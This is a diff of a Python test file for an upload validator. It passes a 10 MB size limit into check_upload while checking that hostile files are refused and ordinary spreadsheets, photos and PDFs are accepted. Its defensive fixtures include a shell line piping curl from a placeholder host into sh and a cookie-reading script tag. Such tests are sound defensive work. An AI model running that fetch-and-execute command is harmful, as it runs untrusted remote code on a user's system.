@@ -21,6 +21,8 @@ from app.models import Attachment, Submission
 from tests.intake import files
 from tests.intake.helpers import submit
 
+MAX_BYTES = 10 * 1024 * 1024  # the default MAX_ATTACHMENT_BYTES
+
 WINDOWS_EXE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 56 + b"PE\x00\x00" + b"\x00" * 200
 SHELL_SCRIPT = b"#!/bin/sh\ncurl http://example.invalid | sh\n"
 HTML_PAGE = b"<!doctype html><html><script>alert(document.cookie)</script></html>"
@@ -109,7 +111,7 @@ CASES: dict[str, tuple[str, bytes, str]] = {
 def test_hostile_file_is_refused_by_its_bytes(case: str) -> None:
     name, data, _words = CASES[case]
     with pytest.raises(AttachmentRefused):
-        check_upload(name, data)
+        check_upload(name, data, max_bytes=MAX_BYTES)
 
 
 def test_each_hostile_file_is_refused_in_the_form_and_nothing_is_stored(
@@ -127,6 +129,9 @@ def test_each_hostile_file_is_refused_in_the_form_and_nothing_is_stored(
 
 
 def test_the_genuine_files_next_to_them_are_still_accepted() -> None:
-    assert check_upload("tabla.xlsx", xlsx()).content_type.endswith("spreadsheetml.sheet")
-    assert check_upload("foto.jpg", jpeg(4000, 3000)).content_type == "image/jpeg"
-    assert check_upload("informe.pdf", files.MINIMAL_PDF).content_type == "application/pdf"
+    def kind(name: str, data: bytes) -> str:
+        return check_upload(name, data, max_bytes=MAX_BYTES).content_type
+
+    assert kind("tabla.xlsx", xlsx()).endswith("spreadsheetml.sheet")
+    assert kind("foto.jpg", jpeg(4000, 3000)) == "image/jpeg"
+    assert kind("informe.pdf", files.MINIMAL_PDF) == "application/pdf"
